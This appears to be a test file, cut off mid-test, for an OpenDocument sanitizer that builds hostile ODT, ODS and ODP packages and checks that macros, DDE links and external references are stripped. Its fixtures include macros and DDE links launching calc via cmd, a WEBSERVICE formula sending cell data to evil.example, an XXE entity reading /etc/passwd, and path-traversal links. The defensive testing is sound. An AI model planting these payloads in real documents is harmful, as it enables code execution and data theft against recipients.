// OpenDocument cdr and text: hostile packages built at test time (with libzip), outputs checked
// with python3's zipfile and ElementTree (check_odf.py), not with sanso's own parsers.
#include <gtest/gtest.h>

#include "support/ooxml_fixture.h"
#include "support/sanitize_runner.h"
#include "support/test_util.h"

namespace sanso::sanitize {
namespace {

using test::hasAction;
using test::readZip;
using test::sanitizeBytes;
using test::shellQuote;

const std::string kNs =
    R"( xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0")"
    R"( xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0")"
    R"( xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0")"
    R"( xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0")"
    R"( xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0")"
    R"( xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0")"
    R"( xmlns:xlink="http://www.w3.org/1999/xlink")"
    R"( xmlns:dc="http://purl.org/dc/elements/1.1/")"
    R"( xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0")"
    R"( xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0")"
    R"( xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0")"
    R"( xmlns:anim="urn:oasis:names:tc:opendocument:xmlns:animation:1.0")"
    R"( xmlns:smil="urn:oasis:names:tc:opendocument:xmlns:smil-compatible:1.0")"
    R"( xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0")"
    R"( xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0")"
    R"( xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0")"
    R"( xmlns:math="http://www.w3.org/1998/Math/MathML")"
    R"( xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2")"
    R"( xmlns:xhtml="http://www.w3.org/1999/xhtml")"
    R"( xmlns:grddl="http://www.w3.org/2003/g/data-view#")"
    R"( xmlns:field="urn:openoffice:names:experimental:ooo-ms-interop:xmlns:field:1.0")";

const std::string kDecl = R"(<?xml version="1.0" encoding="UTF-8"?>)";

struct OdfSpec {
  std::string media_type = "application/vnd.oasis.opendocument.text";
  std::string body_kind = "text";
  std::string body;             // inside office:body/office:<body_kind>
  std::string before_body;      // content.xml children before office:body
  std::string styles;           // office:document-styles children
  std::string meta = "<dc:title>予算資料</dc:title><meta:initial-creator>山田太郎</meta:initial-creator>"
                     "<dc:creator>佐藤花子</dc:creator><meta:generator>Evil/1.0</meta:generator>";
  std::string settings;         // config:config-item-set children
  std::string manifest_extra;   // extra manifest:file-entry elements
  std::string manifest_media_type;  // the manifest's "/" media type when not media_type
  test::PartList extra_parts;
};

std::string buildOdf(const OdfSpec& spec) {
  std::string root_type =
      spec.manifest_media_type.empty() ? spec.media_type : spec.manifest_media_type;
  std::string manifest =
      kDecl +
      R"(<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">)"
      R"(<manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type=")" +
      root_type +
      R"("/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>)" +
      spec.manifest_extra + "</manifest:manifest>";
  test::PartList parts = {
      {"mimetype", spec.media_type},
      {"content.xml", kDecl + "<office:document-content" + kNs + R"( office:version="1.2">)" +
                          spec.before_body + "<office:body><office:" + spec.body_kind + ">" +
                          spec.body + "</office:" + spec.body_kind +
                          "></office:body></office:document-content>"},
      {"styles.xml", kDecl + "<office:document-styles" + kNs + R"( office:version="1.2">)" +
                         spec.styles + "</office:document-styles>"},
      {"meta.xml", kDecl + "<office:document-meta" + kNs + R"( office:version="1.2"><office:meta>)" +
                       spec.meta + "</office:meta></office:document-meta>"},
      {"settings.xml", kDecl + "<office:document-settings" + kNs +
                           R"( office:version="1.2"><office:settings><config:config-item-set config:name="ooo:configuration-settings">)" +
                           spec.settings +
                           "</config:config-item-set></office:settings></office:document-settings>"},
      {"META-INF/manifest.xml", manifest},
  };
  for (const auto& part : spec.extra_parts) parts.push_back(part);
  return test::buildZip(parts);
}

std::string p(const std::string& text) { return "<text:p>" + text + "</text:p>"; }

bool contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

std::string allParts(const std::map<std::string, std::string>& parts) {
  std::string all;
  for (const auto& [name, data] : parts) all += name + "\n" + data + "\n";
  return all;
}

std::string checker() { return std::string(SANSO_SOURCE_DIR) + "/tests/unit/sanitize/odf/check_odf.py"; }

// Runs check_odf.py on `output`; returns its complaints (empty when the package is clean).
std::string independentCheck(const std::string& output, int* code = nullptr) {
  test::TempDir dir;
  std::string path = dir.file("out.odf");
  test::writeFileOrDie(path, output);
  int exit_code = -1;
  std::string problems =
      test::runCommand("python3 " + shellQuote(checker()) + " " + shellQuote(path) + " 2>&1",
                       &exit_code);
  if (code != nullptr) *code = exit_code;
  return problems;
}

std::string independentText(const std::string& output) {
  test::TempDir dir;
  std::string path = dir.file("out.odf");
  test::writeFileOrDie(path, output);
  return test::runCommand("python3 " + shellQuote(checker()) + " " + shellQuote(path) +
                          " --text 2>&1");
}

OdfSpec hostileText() {
  OdfSpec spec;
  spec.before_body =
      R"(<office:scripts><office:script script:language="ooo:Basic"/><office:event-listeners>)"
      R"(<script:event-listener script:language="ooo:script" script:event-name="dom:load")"
      R"( xlink:href="vnd.sun.star.script:Standard.Module1.AutoOpen?language=Basic&amp;location=document"/>)"
      R"(</office:event-listeners></office:scripts>)";
  spec.body =
      p("宗像市 情報セキュリティ基本方針") +
      p(R"(<text:a xlink:type="simple" xlink:href="https://www.city.munakata.lg.jp/">市のサイト</text:a>)") +
      p(R"(<text:a xlink:href="vnd.sun.star.script:Standard.Module1.Evil?language=Basic&amp;location=document">マクロ</text:a>)") +
      p(R"(<text:a xlink:href="file:///C:/Windows/System32/calc.exe">電卓</text:a>)") +
      p(R"(<text:a xlink:href="macro:///Standard.Module1.Main">旧式</text:a>)") +
      p(R"(<text:a xlink:href="#目次">目次へ</text:a>)") +
      p(R"(<draw:frame draw:name="Object 1"><draw:object xlink:href="./Object 1" xlink:type="simple"/>)"
        R"(<draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame>)") +
      p(R"(<draw:frame><draw:object-ole draw:class-id="0003000C-0000-0000-C000-000000000046" xlink:href="Object 2"/></draw:frame>)") +
      p(R"(<draw:frame><draw:applet draw:code="Evil.class" xlink:href="http://evil.example/applet/"/></draw:frame>)") +
      p(R"(<draw:frame><draw:plugin xlink:href="http://evil.example/movie.swf"/></draw:frame>)") +
      p(R"(<draw:frame><draw:floating-frame xlink:href="http://evil.example/frame.html"/></draw:frame>)") +
      p(R"(<draw:frame><draw:image xlink:href="http://tracker.example/pixel.png"/></draw:frame>)") +
      p(R"(<draw:frame><draw:image xlink:href="../../etc/passwd"/></draw:frame>)") +
      p(R"(<draw:frame draw:name="写真"><draw:image xlink:href="Pictures/photo.png"/></draw:frame>)") +
      p(R"(<draw:frame><draw:image xlink:href="Pictures/vector.svm"/></draw:frame>)") +
      p(R"(<text:execute-macro text:name="Evil"><office:event-listeners><script:event-listener script:event-name="dom:click" xlink:href="vnd.sun.star.script:x"/></office:event-listeners>押してください</text:execute-macro>)") +
      "<text:dde-connection-decls><text:dde-connection-decl office:name=\"dde1\" office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" office:dde-item=\"x\"/></text:dde-connection-decls>" +
      p(R"(<text:dde-connection text:connection-name="dde1">DDE結果</text:dde-connection>)") +
      R"(<text:section text:name="s1"><text:section-source xlink:href="file:///etc/passwd" text:filter-name="Text"/>)" +
      p("リンク節の内容") + "</text:section>" +
      R"(<office:forms><form:form form:name="f"><form:button form:name="b"><office:event-listeners><script:event-listener script:event-name="form:approveaction" xlink:href="vnd.sun.star.script:y"/></office:event-listeners></form:button></form:form></office:forms>)" +
      p(R"(<draw:control draw:control="b"/>)") +
      p(R"(<office:annotation><dc:creator>山田太郎</dc:creator><dc:date>2026-01-01T00:00:00</dc:date>)" +
        p("コメント本文") + "</office:annotation>注釈付き") +
      R"(<text:tracked-changes><text:changed-region text:id="ct1"><text:deletion><office:change-info><dc:creator>佐藤花子</dc:creator><dc:date>2026-01-01T00:00:00</dc:date></office:change-info>)" +
      p("削除された文") + "</text:deletion></text:changed-region></text:tracked-changes>" +
      R"(<xhtml:script>alert(1)</xhtml:script>)" +
      p(R"(<text:span xml:base="http://evil.example/" field:x="1">基底</text:span>)") +
      R"(<text:fieldmark-start text:name="f1" field:type="vnd.oasis.opendocument.field.UNHANDLED"><field:param field:name="vnd.oasis.opendocument.field.code" field:value="DDEAUTO c:\\windows\\system32\\cmd.exe"/></text:fieldmark-start>)" +
      p("フィールド結果") + R"(<text:fieldmark-end/>)";
  spec.styles =
      R"(<office:styles><draw:fill-image draw:name="bg" xlink:href="http://tracker.example/bg.png"/>)"
      R"(<style:style style:name="x"><style:graphic-properties><style:background-image xlink:href="Pictures/photo.png"/></style:graphic-properties></style:style>)"
      R"(<style:font-face style:name="F"><svg:font-face-src><svg:font-face-uri xlink:href="http://evil.example/font.ttf"/></svg:font-face-src></style:font-face></office:styles>)";
  spec.extra_parts = {
      {"Basic/Standard/Module1.xml", "Sub AutoOpen\nShell \"calc.exe\"\nEnd Sub"},
      {"Basic/script-lc.xml", "<library/>"},
      {"Scripts/python/evil.py", "import os\nos.system('calc')"},
      {"Object 1/content.xml", "<office:document-content/>"},
      {"ObjectReplacements/Object 1", test::tinyPng()},
      {"Object 2", std::string("\xD0\xCF\x11\xE0payload", 11)},
      {"Pictures/photo.png", test::tinyPng()},
      {"Pictures/vector.svm", "VCLMTF\x01\x00garbage"},
      {"Thumbnails/thumbnail.png", test::tinyPng()},
      {"Configurations2/menubar/menubar.xml", "<menu macro=\"vnd.sun.star.script:x\"/>"},
      {"META-INF/documentsignatures.xml", "<signatures/>"},
      {"manifest.rdf", "<rdf/>"},
  };
  return spec;
}

TEST(OdfSanitizer, HostileTextDocumentKeepsOnlyText) {
  auto result = sanitizeBytes(buildOdf(hostileText()), "hostile.odt");
  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.reason << " "
                                                       << result.report.message;
  EXPECT_EQ(result.report.input.type, "odt");
  EXPECT_EQ(result.report.output->type, "odt");
  ASSERT_TRUE(result.output.has_value());
  int code = -1;
  std::string problems = independentCheck(*result.output, &code);
  EXPECT_EQ(code, 0) << problems;

  auto parts = readZip(*result.output);
  std::string all = allParts(parts);
  for (const char* marker :
       {"vnd.sun.star.script", "macro:", "calc.exe", "evil.example", "tracker.example",
        "\"./Object 1\"", "Object 2", "applet", "plugin", "floating-frame", "event-listener",
        "dde-connection", "section-source", "/etc/passwd", "<form:", "draw:control",
        "山田太郎", "佐藤花子", "<xhtml:", "xml:base", "fieldmark", "DDEAUTO", "vector.svm",
        "Evil/1.0", "Basic", "Scripts", "Thumbnails", "Configurations2", "signature"}) {
    EXPECT_FALSE(contains(all, marker)) << marker << " left";
  }
  std::string text = independentText(*result.output);
  for (const char* kept : {"宗像市 情報セキュリティ基本方針", "市のサイト", "マクロ", "電卓",
                           "押してください", "DDE結果", "リンク節の内容", "注釈付き",
                           "フィールド結果", "基底", "目次へ"}) {
    EXPECT_TRUE(contains(text, kept)) << kept << " lost";
  }
  EXPECT_TRUE(contains(parts["content.xml"], "https://www.city.munakata.lg.jp/"));
  EXPECT_TRUE(contains(parts["content.xml"], "#目次"));
  EXPECT_TRUE(contains(parts["content.xml"], "Pictures/photo.png"));
  EXPECT_TRUE(contains(parts["styles.xml"], "Pictures/photo.png"));
  EXPECT_EQ(parts.count("Pictures/photo.png"), 1u);
  // The embedded object's preview stays as a plain picture.
  EXPECT_EQ(parts.count("ObjectReplacements/Object 1"), 1u);
  EXPECT_TRUE(contains(parts["content.xml"], "ObjectReplacements/Object 1"));
  EXPECT_EQ(parts["mimetype"], "application/vnd.oasis.opendocument.text");

  for (const char* what :
       {"macro", "basic-macro", "script", "embedded-object", "ole-object", "applet", "plugin",
        "floating-frame", "external-image", "image-unsupported", "dde-link", "linked-section",
        "form", "form-control", "author", "foreign-element", "xml-base", "fieldmark",
        "thumbnail", "ui-configuration", "signature", "rdf-metadata", "metadata", "embedded-font"}) {
    EXPECT_TRUE(hasAction(result.report, "removed", what)) << what;
  }
  EXPECT_TRUE(hasAction(result.report, "neutralized", "launch-link"));
  EXPECT_TRUE(hasAction(result.report, "re-encoded", "image"));
}

// pugixml passes bytes through unchecked: an overlong form (0xC0 0xBC is '<' to a lenient
// decoder) or a surrogate must not reach the output.
TEST(OdfSanitizer, RefusesTextThatIsNotStrictUtf8) {
  for (const char* bad : {"\xC0\xBCscript", "\xED\xA0\x80", "&#xD800;"}) {
    OdfSpec spec;
    spec.body = std::string("<text:p>本文") + bad + "</text:p>";
    auto result = test::sanitizeBytes(buildOdf(spec), "bad.odt");
    EXPECT_FALSE(result.output.has_value()) << bad;
    EXPECT_EQ(result.report.reason, "malformed-xml") << bad;
  }
}

TEST(OdfSanitizer, NoHyperlinksOptionUnwrapsBrowsingLinks) {
  Options options;
  options.keep_hyperlinks = false;
  auto result = sanitizeBytes(buildOdf(hostileText()), "hostile.odt", options);
  ASSERT_TRUE(result.output.has_value()) << result.report.reason;
  auto parts = readZip(*result.output);
  EXPECT_FALSE(contains(parts["content.xml"], "city.munakata"));
  EXPECT_TRUE(contains(independentText(*result.output), "市のサイト"));
  EXPECT_TRUE(hasAction(result.report, "neutralized", "hyperlink"));
}

OdfSpec hostileSpreadsheet() {
  OdfSpec spec;
  spec.media_type = "application/vnd.oasis.opendocument.spreadsheet";
  spec.body_kind = "spreadsheet";
  auto cell = [](const std::string& attrs, const std::string& text) {
    return "<table:table-cell " + attrs + ">" + p(text) + "</table:table-cell>";
  };
  spec.body =
      R"(<table:content-validations><table:content-validation table:name="v1" table:condition="of:cell-content()&gt;0"><table:error-macro table:execute="true"/><office:event-listeners><script:event-listener script:event-name="dom:x" xlink:href="vnd.sun.star.script:z"/></office:event-listeners></table:content-validation></table:content-validations>)"
      R"(<table:table table:name="集計"><table:table-source xlink:href="file:///C:/secret.ods" table:table-name="S"/><table:table-column table:number-columns-repeated="4"/>)"
      "<table:table-row>" + cell("", "氏名") + cell("", "金額") +
      cell(R"(table:number-columns-repeated="2")", "") + "</table:table-row>" +
      "<table:table-row>" + cell(R"(office:value-type="string")", "宗像太郎") +
      cell(R"x(table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)" office:value-type="float" office:value="5")x", "5") +
      cell(R"x(table:formula="of:=WEBSERVICE(&quot;http://evil.example/?&quot;&amp;[.A2])" office:value-type="string")x", "W") +
      cell(R"x(table:formula="of:=['file:///C:/x.ods'#$Sheet1.A1]" office:value-type="float" office:value="7")x", "7") +
      "</table:table-row>" +
      "<table:table-row>" + cell(R"x(table:formula="of:=SUM([.B2:.B2])" office:value-type="float" office:value="5")x", "5") +
      cell(R"(table:number-columns-repeated="3")", "") + "</table:table-row>"
      R"(<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>)"
      R"(<table:table-row><table:table-cell><table:cell-range-source table:name="r" xlink:href="http://evil.example/data.csv" table:filter-name="Text"/></table:table-cell></table:table-row>)"
      "</table:table>"
      R"(<table:named-expressions><table:named-expression table:name="ext" table:expression="of:['file:///C:/x.ods'#$Sheet1.A1]"/><table:named-range table:name="ok" table:cell-range-address="$集計.$A$1"/></table:named-expressions>)"
      R"(<table:database-ranges><table:database-range table:name="db" table:target-range-address="$集計.A1:B2"><table:database-source-sql table:database-name="Bibliography" table:sql-statement="DROP TABLE x"/></table:database-range></table:database-ranges>)"
      R"(<table:data-pilot-tables><table:data-pilot-table table:name="pv"><table:source-service table:name="com.sun.star.evil"/></table:data-pilot-table></table:data-pilot-tables>)"
      R"(<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></table:dde-link></table:dde-links>)";
  return spec;
}

TEST(OdfSanitizer, SpreadsheetLosesExternalDataAndKeepsValues) {
  auto result = sanitizeBytes(buildOdf(hostileSpreadsheet()), "hostile.ods");
  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.message;
  EXPECT_EQ(result.report.output->type, "ods");
  int code = -1;
  std::string problems = independentCheck(*result.output, &code);
  EXPECT_EQ(code, 0) << problems;
  std::string content = readZip(*result.output)["content.xml"];
  for (const char* marker : {"DDE", "WEBSERVICE", "file:///", "evil.example", "table-source",
                             "cell-range-source", "database-source-sql", "source-service",
                             "data-pilot", "dde-link", "error-macro", "event-listener", "\"ext\""}) {
    EXPECT_FALSE(contains(content, marker)) << marker << " left";
  }
  EXPECT_TRUE(contains(content, "of:=SUM([.B2:.B2])"));
  EXPECT_TRUE(contains(content, "office:value=\"7\""));
  EXPECT_TRUE(contains(content, "\"ok\""));
  for (const char* what : {"external-formula", "linked-table", "linked-range", "database-source",
                           "pivot-table", "dde-link", "macro"}) {
    EXPECT_TRUE(hasAction(result.report, "removed", what)) << what;
  }

  Options text;
  text.method = Method::kText;
  auto extracted = sanitizeBytes(buildOdf(hostileSpreadsheet()), "hostile.ods", text);
  ASSERT_TRUE(extracted.output.has_value()) << extracted.report.message;
  EXPECT_TRUE(contains(*extracted.output, "## 集計\n氏名\t金額\n宗像太郎\t5\tW\t7\n5\n"))
      << *extracted.output;
  EXPECT_LT(extracted.output->size(), 200u);  // repeated empty rows and cells stay small
}

TEST(OdfSanitizer, PresentationLosesActionsAndSounds) {
  OdfSpec spec;
  spec.media_type = "application/vnd.oasis.opendocument.presentation";
  spec.body_kind = "presentation";
  spec.body =
      R"(<draw:page draw:name="p1"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///C:/Windows/System32/calc.exe"/></office:event-listeners>)"
      R"(<draw:frame><draw:text-box>)" + p("発表資料") + R"(</draw:text-box></draw:frame>)"
      R"(<presentation:sound xlink:href="http://evil.example/a.wav"/>)"
      R"(<anim:par><anim:command anim:command="verb" smil:targetElement="x"/><anim:audio xlink:href="http://evil.example/b.wav"/></anim:par>)"
      R"(<draw:custom-shape><draw:enhanced-geometry draw:engine="com.sun.star.evil.Engine"/></draw:custom-shape>)"
      R"(<draw:frame><draw:image xlink:href="Pictures/p.png"><draw:image-map><draw:area-rectangle xlink:href="vnd.sun.star.script:x" svg:x="0" svg:y="0" svg:width="1" svg:height="1"/></draw:image-map></draw:image></draw:frame>)"
      "</draw:page>"
      R"(<draw:page draw:name="p2"><draw:frame><draw:text-box>)" + p("二枚目") +
      R"(</draw:text-box></draw:frame></draw:page>)";
  spec.extra_parts = {{"Pictures/p.png", test::tinyPng()}};
  auto result = sanitizeBytes(buildOdf(spec), "deck.odp");
  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.message;
  EXPECT_EQ(result.report.output->type, "odp");
  int code = -1;
  std::string problems = independentCheck(*result.output, &code);
  EXPECT_EQ(code, 0) << problems;
  std::string content = readZip(*result.output)["content.xml"];
  for (const char* marker : {"calc.exe", "evil.example", "anim:command", "sound",
                             "com.sun.star.evil", "area-rectangle", "vnd.sun.star"}) {
    EXPECT_FALSE(contains(content, marker)) << marker;
  }
  EXPECT_TRUE(contains(content, "発表資料"));
  EXPECT_TRUE(contains(content, "Pictures/p.png"));

  Options text;
  text.method = Method::kText;
  auto extracted = sanitizeBytes(buildOdf(spec), "deck.odp", text);
  ASSERT_TRUE(extracted.output.has_value());
  EXPECT_EQ(*extracted.output, "--- 1 ---\n発表資料\n--- 2 ---\n二枚目\n");
}

TEST(OdfSanitizer, MetadataAndSettings) {
  OdfSpec spec;
  spec.body = p("本文");
  spec.meta += R"(<meta:template xlink:href="file:///C:/evil.ott" xlink:title="t"/>)"
               R"(<meta:auto-reload xlink:href="http://evil.example/reload.odt" meta:delay="PT0S"/>)"
               R"(<meta:user-defined meta:name="課">情報政策課</meta:user-defined>)";
  spec.settings =
      R"(<config:config-item config:name="LinkUpdateMode" config:type="short">2</config:config-item>)"
      R"(<config:config-item config:name="CurrentDatabaseDataSource" config:type="string">Secret</config:config-item>)"
      R"(<config:config-item config:name="Custom" config:type="string">vnd.sun.star.script:Evil</config:config-item>)"
      R"(<config:config-item config:name="AddParaTableSpacing" config:type="boolean">true</config:config-item>)";
  auto result = sanitizeBytes(buildOdf(spec), "meta.odt");
  ASSERT_TRUE(result.output.has_value()) << result.report.message;
  auto parts = readZip(*result.output);
  EXPECT_TRUE(contains(parts["meta.xml"], "予算資料"));
  for (const char* marker : {"山田太郎", "佐藤花子", "Evil/1.0", "evil.ott", "reload", "情報政策課"}) {
    EXPECT_FALSE(contains(parts["meta.xml"], marker)) << marker;
  }
  for (const char* marker : {"LinkUpdateMode", "Secret", "vnd.sun.star"}) {
    EXPECT_FALSE(contains(parts["settings.xml"], marker)) << marker;
  }
  EXPECT_TRUE(contains(parts["settings.xml"], "AddParaTableSpacing"));
  EXPECT_TRUE(hasAction(result.report, "removed", "template-link"));
  EXPECT_TRUE(hasAction(result.report, "removed", "auto-reload"));
  EXPECT_TRUE(hasAction(result.report, "removed", "setting"));

  Options keep;
  keep.remove_metadata = false;
  auto kept = sanitizeBytes(buildOdf(spec), "meta.odt", keep);
  ASSERT_TRUE(kept.output.has_value());
  std::string meta = readZip(*kept.output)["meta.xml"];
  EXPECT_TRUE(contains(meta, "山田太郎"));
  EXPECT_TRUE(contains(meta, "情報政策課"));
  EXPECT_FALSE(contains(meta, "evil.ott"));
  EXPECT_FALSE(contains(meta, "reload.odt"));
}

TEST(OdfSanitizer, EncryptedAndInconsistentPackagesAreBlocked) {
  OdfSpec encrypted;
  encrypted.body = p("x");
  encrypted.manifest_extra =
      R"(<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/></manifest:file-entry>)";
  for (Method method : {Method::kCdr, Method::kText}) {
    Options options;
    options.method = method;
    auto result = sanitizeBytes(buildOdf(encrypted), "secret.odt", options);
    EXPECT_EQ(result.report.verdict, Verdict::kBlocked);
    EXPECT_EQ(result.report.reason, "encrypted");
    EXPECT_FALSE(result.output.has_value());
  }

  OdfSpec mismatch;
  mismatch.body = p("x");
  mismatch.manifest_media_type = "application/vnd.oasis.opendocument.spreadsheet";
  auto result = sanitizeBytes(buildOdf(mismatch), "mismatch.odt");
  EXPECT_EQ(result.report.verdict, Verdict::kBlocked);
  EXPECT_EQ(result.report.reason, "malformed-odf");

  OdfSpec wrong_body;
  wrong_body.body_kind = "spreadsheet";
  auto body = sanitizeBytes(buildOdf(wrong_body), "body.odt");
  EXPECT_EQ(body.report.reason, "malformed-odf");

  auto doctype = sanitizeBytes(
      test::buildZip({{"mimetype", "application/vnd.oasis.opendocument.text"},
                      {"content.xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM "
                                      "\"file:///etc/passwd\">]><x>&e;</x>"}}),
      "doctype.odt");
  EXPECT_EQ(doctype.report.reason, "xml-doctype");
  // Readers disagree on which of two same-named attributes counts: refused.
  for (const char* twice :
       {R"(<text:a xlink:href="https://example.jp/" xlink:href="vnd.sun.star.script:x">a</text:a>)",
        R"(<text:a xlink:href="https://example.jp/" l:href="macro:x" xmlns:l="http://www.w3.org/1999/xlink">a</text:a>)"}) {
    OdfSpec duplicate;
    duplicate.body = p(twice);
    auto refused = sanitizeBytes(buildOdf(duplicate), "twice.odt");
    EXPECT_EQ(refused.report.reason, "malformed-xml") << twice;
  }

  auto no_content = sanitizeBytes(
      test::buildZip({{"mimetype", "application/vnd.oasis.opendocument.text"}}), "empty.odt");
  EXPECT_EQ(no_content.report.reason, "malformed-odf");
}

TEST(OdfSanitizer, DetectsEverySubtypeFromContent) {
  const std::pair<std::string, std::string> kTypes[] = {
      {"text-template", "ott"},        {"spreadsheet-template", "ots"},
      {"presentation-template", "otp"}, {"graphics", "odg"},
      {"graphics-template", "otg"},    {"chart", "odf-other"},
      {"base", "odf-other"}};
  for (const auto& [suffix, name] : kTypes) {
    std::string media = "application/vnd.oasis.opendocument." + suffix;
    OdfSpec spec;
    spec.media_type = media;
    spec.body_kind = suffix.starts_with("text") ? "text"
                     : suffix.starts_with("spreadsheet") ? "spreadsheet"
                     : suffix.starts_with("presentation") ? "presentation"
                                                          : "drawing";
    spec.body = suffix.starts_with("spreadsheet") ? "" : p("内容");
    auto result = sanitizeBytes(buildOdf(spec), "file.bin");
    EXPECT_EQ(result.report.input.type, name) << suffix;
    if (name == "odf-other") {
      EXPECT_EQ(result.report.reason, "unsupported-type");
    } else {
      ASSERT_TRUE(result.output.has_value()) << suffix << " " << result.report.message;
      EXPECT_EQ(result.report.output->type, name);
      EXPECT_EQ(readZip(*result.output)["mimetype"], media);
    }
  }
  // The manifest alone names the type when the mimetype entry is missing.
  OdfSpec spec;
  spec.body = p("内容");
  std::string no_mimetype = buildOdf(spec);
  auto parts = readZip(no_mimetype);
  test::PartList without;
  for (const auto& [name, data] : parts) {
    if (name != "mimetype") without.emplace_back(name, data);
  }
  auto result = sanitizeBytes(test::buildZip(without), "x.odt");
  EXPECT_EQ(result.report.input.type, "odt");
  ASSERT_TRUE(result.output.has_value());
  EXPECT_EQ(independentCheck(*result.output), "");
}

TEST(OdfSanitizer, FormulaKeepsMathAndLosesGlyphLinks) {
  std::string math =
      kDecl + R"(<math xmlns="http://www.w3.org/1998/Math/MathML" display="block"><semantics><mrow>)"
              R"(<mi mathvariant="italic">x</mi><mo>=</mo><mglyph src="http://evil.example/g.png"/>)"
              R"(<mi href="http://evil.example/">y</mi></mrow><annotation encoding="StarMath 5.0">x = y</annotation></semantics></math>)";
  std::string media = "application/vnd.oasis.opendocument.formula";
  std::string manifest =
      kDecl +
      R"(<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type=")" +
      media + R"("/></manifest:manifest>)";
  std::string input = test::buildZip(
      {{"mimetype", media}, {"content.xml", math}, {"META-INF/manifest.xml", manifest}});
  auto result = sanitizeBytes(input, "f.odf");
  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.message;
  EXPECT_EQ(result.report.output->type, "odf");
  std::string content = readZip(*result.output)["content.xml"];
  EXPECT_FALSE(contains(content, "evil.example"));
  EXPECT_TRUE(contains(content, "mathvariant=\"italic\""));
  EXPECT_TRUE(contains(content, "x = y"));
  EXPECT_EQ(independentCheck(*result.output), "");

  Options text;
  text.method = Method::kText;
  auto extracted = sanitizeBytes(input, "f.odf", text);
  ASSERT_TRUE(extracted.output.has_value());
  EXPECT_EQ(*extracted.output, "x = y\n");
}

TEST(OdfText, ReadingOrderWithoutDeletedTextOrComments) {
  OdfSpec spec;
  spec.body =
      R"(<text:tracked-changes><text:changed-region text:id="c"><text:deletion><office:change-info><dc:creator>a</dc:creator></office:change-info>)" +
      p("削除済み") + "</text:deletion></text:changed-region></text:tracked-changes>" +
      R"(<text:h text:outline-level="1">第一章　総則</text:h>)" +
      p(R"(目的<text:s text:c="2"/>本方針は<text:tab/>定める。<office:annotation><dc:creator>x</dc:creator>)" +
        p("内緒") + "</office:annotation>") +
      R"(<text:list><text:list-item>)" + p("項目一") + R"(</text:list-item><text:list-item>)" +
      p("項目二") + "</text:list-item></text:list>" +
      R"(<table:table table:name="表1"><table:table-row><table:table-cell>)" + p("区分") +
      R"(</table:table-cell><table:table-cell>)" + p("内容") +
      R"(</table:table-cell></table:table-row></table:table>)";
  Options options;
  options.method = Method::kText;
  auto result = sanitizeBytes(buildOdf(spec), "doc.odt", options);
  ASSERT_TRUE(result.output.has_value()) << result.report.message;
  EXPECT_EQ(*result.output,
            "第一章　総則\n目的  本方針は\t定める。\n項目一\n項目二\n## 表1\n区分\t内容\n");
}

// Rebound prefixes, default namespaces, entities and case games do not hide anything.
TEST(OdfSanitizer, NamespaceAndEncodingTricksAreSeenThrough) {
  OdfSpec spec;
  spec.body =
      p(R"(<d:object xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xlink:href="./Object 1"/>)") +
      p(R"(<applet xmlns="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" code="x"/>)") +
      p(R"(<text:a xmlns:l="http://www.w3.org/1999/xlink" l:href=" &#x56;ND.SUN.STAR.SCRIPT:Standard.M.X?language=Basic">大文字</text:a>)") +
      p(R"x(<text:a xlink:href="java&#x09;script:alert(1)">タブ</text:a>)x") +
      p(R"(<text:span xmlns:draw="urn:evil">偽装<draw:object/></text:span>)") +
      p(R"(<office:event-listeners xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><e:event-listener xmlns:e="urn:oasis:names:tc:opendocument:xmlns:script:1.0" e:event-name="dom:load" xlink:href="macro:///x"/></office:event-listeners>本文)") +
      p(R"(<draw:frame><draw:image xlink:href="Pictures%2F..%2F..%2Fcontent.xml"/></draw:frame>)") +
      p(R"(<draw:frame><draw:image xlink:href="./META-INF/manifest.xml"/></draw:frame>)");
  spec.extra_parts = {{"Object 1/content.xml", "<x/>"}};
  auto result = sanitizeBytes(buildOdf(spec), "tricks.odt");
  ASSERT_EQ(result.report.verdict, Verdict::kSanitized) << result.report.message;
  int code = -1;
  std::string problems = independentCheck(*result.output, &code);
  EXPECT_EQ(code, 0) << problems;
  std::string content = readZip(*result.output)["content.xml"];
  for (const char* marker : {"d:object", "applet", "SUN.STAR", "alert", "macro:", "Pictures%2F",
                             "manifest.xml", "<draw:object", "event-listener"}) {
    EXPECT_FALSE(contains(content, marker)) << marker;
  }
